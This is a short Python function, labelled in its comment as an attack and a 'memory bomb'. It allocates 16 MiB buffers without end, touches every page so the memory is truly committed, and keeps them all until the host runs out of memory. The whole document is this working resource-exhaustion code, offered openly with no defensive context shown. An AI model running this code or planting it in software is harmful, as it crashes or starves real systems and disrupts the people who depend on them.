# Attack: a memory bomb — allocate 16 MiB after 16 MiB and touch every page, until the host
# runs out of memory.
def attack():
    hoard = []
    while True:
        chunk = bytearray(16 << 20)
        chunk[::4096] = b"x" * len(chunk[::4096])
        hoard.append(chunk)
